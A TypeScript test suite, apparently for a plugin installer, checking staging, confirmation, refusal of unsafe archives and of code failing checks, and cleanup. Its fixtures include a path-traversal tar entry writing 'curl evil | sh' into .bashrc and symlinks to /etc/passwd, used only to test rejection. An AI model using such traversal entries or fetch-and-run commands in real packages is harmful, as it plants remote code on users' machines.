// Installing from a local tarball and from a folder: files land in plugins/<key>, the record holds
// what was approved, install scripts never run, and a package that is unsafe or fails `check` is
// refused with a precise message and leaves nothing behind.
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { Installer } from '../../../runtime/installer/installer.ts';
import { hashFolder } from '../../../runtime/install/content-hash.ts';
import { openStore } from '../../../runtime/store/open-store.ts';
import type { Store } from '../../../runtime/store/store.ts';
import { packTgz, pluginPackage, tgz, tmpDir, writeFolder } from './install-helpers.ts';

let store: Store;
let work: string;
let pluginsDir: string;
let installer: Installer;

beforeEach(async () => {
  store = await openStore('sqlite::memory:');
  work = tmpDir('install');
  pluginsDir = path.join(work, 'plugins');
  fs.mkdirSync(pluginsDir);
  installer = new Installer({ pluginsDir, store });
});
afterEach(async () => {
  await store.close();
  fs.rmSync(work, { recursive: true, force: true });
});

const leftovers = () => (fs.existsSync(path.join(pluginsDir, '.staging')) ? fs.readdirSync(path.join(pluginsDir, '.staging')) : []);

describe('install from a local tarball or folder', () => {
  it('installs a .tgz: stages, checks, reports, then moves it into plugins/<key> and records what was approved', async () => {
    const file = path.join(work, 'payout-fixture-1.0.0.tgz');
    fs.writeFileSync(file, packTgz(pluginPackage({ name: '@acme/payout-fixture', version: '1.0.0' })));
    const staged = await installer.stage({ source: file, actor: 'cli:test', allowLocal: true });
    expect(staged).toMatchObject({
      key: 'payout-fixture', action: 'install', replaces: null, widened: null, scripts: [],
      package: { name: '@acme/payout-fixture', version: '1.0.0', integrity: expect.stringMatching(/^sha512-/), source: { kind: 'tarball', spec: file } },
      capabilities: { network: [], config: [{ key: 'apiKey', secret: false }, { key: 'apiSecret', secret: true }], hostModules: [], capabilities: [] },
      report: { key: 'payout-fixture', title: 'Fixture' },
      check: { className: 'Plain' },
    });
    expect(fs.existsSync(path.join(pluginsDir, 'payout-fixture'))).toBe(false);

    const result = await installer.confirm(staged.stagingId, 'cli:alice');
    const dir = path.join(pluginsDir, 'payout-fixture');
    expect(fs.readdirSync(dir).sort()).toEqual(['configure.js', 'index.js', 'package.json']);
    expect(result).toMatchObject({ status: 'installed', key: 'payout-fixture' });
    const record = await store.getPluginRecord('payout-fixture');
    expect(record).toMatchObject({
      key: 'payout-fixture', revision: 1, previous: [], pending: null,
      current: {
        packageName: '@acme/payout-fixture', version: '1.0.0', integrity: staged.package.integrity, contentHash: hashFolder(dir),
        capabilities: staged.capabilities, approvedBy: 'cli:alice', approvedAt: expect.any(String), keptAt: null, scriptsNotRun: [],
      },
    });
    expect(record!.current.contentHash).toBe(staged.contentHash);
    expect(leftovers()).toEqual([]);
  });

  it('installs a folder under its own name or --key, copying regular files only', async () => {
    const src = writeFolder(path.join(work, 'src', 'cardpay'), pluginPackage({ extra: { 'templates/admin.html': '<p>settings</p>' } }));
    const staged = await installer.stage({ source: src, actor: 'cli:test', allowLocal: true });
    expect(staged).toMatchObject({ key: 'cardpay', package: { source: { kind: 'folder', spec: src }, integrity: null } });
    await installer.confirm(staged.stagingId, 'cli:test');
    expect(fs.readFileSync(path.join(pluginsDir, 'cardpay', 'templates/admin.html'), 'utf8')).toBe('<p>settings</p>');
    const renamed = await installer.stage({ source: src, key: 'cardpay_eu', actor: 'cli:test', allowLocal: true });
    expect(renamed.key).toBe('cardpay_eu');
    await installer.discard(renamed.stagingId);
    expect(leftovers()).toEqual([]);

    fs.symlinkSync('/etc/passwd', path.join(src, 'secrets.txt'));
    await expect(installer.stage({ source: src, key: 'linked', actor: 'cli:test', allowLocal: true })).rejects.toThrow(
      /secrets\.txt in .*cardpay is a symbolic link \(to "\/etc\/passwd"\); plugin folders may hold only regular files and folders/);
  });

  it('never runs install scripts: the marker they would write does not exist, and the report lists them as not run', async () => {
    const marker = path.join(work, 'INSTALL-SCRIPT-RAN');
    const file = path.join(work, 'scripted.tgz');
    fs.writeFileSync(file, packTgz(pluginPackage({ name: 'payout-scripted', marker })));
    const staged = await installer.stage({ source: file, actor: 'cli:test', allowLocal: true });
    expect(staged.scripts).toEqual([
      { name: 'preinstall', command: 'node scripts/install-hook.js preinstall' },
      { name: 'postinstall', command: 'node scripts/install-hook.js postinstall' },
    ]);
    expect(staged.dependencies).toEqual(['left-pad']);
    expect(staged.warnings).toContain('dependencies are never installed (left-pad); the plugin may require only what the sandbox provides');
    await installer.confirm(staged.stagingId, 'cli:test');
    expect(fs.existsSync(path.join(pluginsDir, 'payout-scripted', 'scripts', 'install-hook.js'))).toBe(true);
    expect(fs.existsSync(marker)).toBe(false);
    expect((await store.getPluginRecord('payout-scripted'))!.current.scriptsNotRun).toEqual(['preinstall', 'postinstall']);
  });

  it('refuses a tarball whose entry escapes its folder, holds a symlink, or is over the size limit — and leaves nothing behind', async () => {
    const escape = path.join(work, 'escape.tgz');
    fs.writeFileSync(escape, tgz([{ name: 'package/index.js', data: 'x' }, { name: 'package/../../../.bashrc', data: 'curl evil | sh' }]));
    await expect(installer.stage({ source: escape, key: 'escape', actor: 't', allowLocal: true })).rejects.toMatchObject({
      code: 'unsafe_archive', message: 'escape.tgz: entry "package/../../../.bashrc" escapes the package folder: its path has a \'..\' segment; nothing was installed',
    });
    const linked = path.join(work, 'linked.tgz');
    fs.writeFileSync(linked, tgz([{ name: 'package/configure.js', data: 'x' }, { name: 'package/index.js', type: '2', linkname: '../../../../etc/passwd' }]));
    await expect(installer.stage({ source: linked, key: 'linked', actor: 't', allowLocal: true })).rejects.toThrow(
      'linked.tgz: entry "package/index.js" is a symbolic link (to "../../../../etc/passwd"); plugin packages may hold only regular files and folders; nothing was installed');
    const small = new Installer({ pluginsDir, store, limits: { maxFileBytes: 64 * 1024 } });
    const big = path.join(work, 'big.tgz');
    fs.writeFileSync(big, packTgz({ ...pluginPackage(), 'vendor/blob.js': `// ${'x'.repeat(100 * 1024)}` }));
    await expect(small.stage({ source: big, key: 'big', actor: 't', allowLocal: true })).rejects.toThrow(
      'big.tgz: file "package/vendor/blob.js" is 102403 bytes; the limit per file is 65536 bytes; nothing was installed');
    expect(leftovers()).toEqual([]);
    expect(fs.readdirSync(pluginsDir).filter((d) => !d.startsWith('.'))).toEqual([]);
  });

  it('refuses a package that fails `check`, with the same reason check gives', async () => {
    const file = path.join(work, 'fs.tgz');
    fs.writeFileSync(file, packTgz(pluginPackage({ name: 'payout-fs', index: "const fs = require('fs');\nmodule.exports = class { getFields() {} transfer() {} };\n" })));
    await expect(installer.stage({ source: file, actor: 't', allowLocal: true })).rejects.toMatchObject({
      code: 'check_failed',
      message: expect.stringMatching(/^the package \(as plugin payout-fs\) does not pass the checks of `payout-sandbox check` \(forbidden_require\): index\.js:1: require\('fs'\) refused: Node built-in 'fs'.*; nothing was installed$/s),
    });
    const noClass = path.join(work, 'nomethod.tgz');
    fs.writeFileSync(noClass, packTgz(pluginPackage({ name: 'payout-nomethod', index: 'module.exports = class Half { getFields() { return []; } };' })));
    await expect(installer.stage({ source: noClass, actor: 't', allowLocal: true })).rejects.toThrow(/\(missing_method\): index\.js: the plugin class Half has no transfer method/);
    expect(leftovers()).toEqual([]);
  });

  it('drops unconfirmed stagings after the TTL, but never one a pending update points at', async () => {
    const src = writeFolder(path.join(work, 'src', 'stale'), pluginPackage());
    const old = await installer.stage({ source: src, actor: 't', allowLocal: true });
    const stagingDir = path.join(pluginsDir, '.staging', old.stagingId);
    const dayAgo = new Date(Date.now() - 25 * 3600_000);
    fs.utimesSync(stagingDir, dayAgo, dayAgo);
    const fresh = await installer.stage({ source: src, key: 'fresh', actor: 't', allowLocal: true });
    expect(leftovers()).toEqual([fresh.stagingId]);
    await expect(installer.confirm(old.stagingId, 't')).rejects.toThrow(/no staged install [0-9a-f]{32} .*: it was confirmed, discarded or expired; stage it again/);
  });

  it('says what is wrong with the source itself', async () => {
    await expect(installer.stage({ source: './nope.tgz', actor: 't', allowLocal: true })).rejects.toThrow(/nope\.tgz does not exist; give an existing \.tgz file or plugin folder, or an npm package name/);
    await expect(installer.stage({ source: './nope.tgz', actor: 't', allowLocal: false })).rejects.toThrow(/looks like a local path; over HTTP give an npm package or an https tarball URL/);
    await expect(installer.stage({ source: 'payout-x@^1.2.0', actor: 't' })).rejects.toThrow(/'\^1\.2\.0' in payout-x@\^1\.2\.0 is neither an exact version \(1\.2\.0\) nor a dist-tag/);
    await expect(installer.stage({ source: 'Bad Name!', actor: 't' })).rejects.toThrow(/'Bad Name!' is not an npm package name/);
    const file = path.join(work, 'dotted.tgz');
    fs.writeFileSync(file, packTgz(pluginPackage({ name: 'payout.dotted' })));
    await expect(installer.stage({ source: file, actor: 't', allowLocal: true })).rejects.toThrow(/'payout\.dotted' cannot be a plugin key \(folder name\): use 1-64 letters, digits, '_' or '-'; pass --key <folder name>/);
  });
});
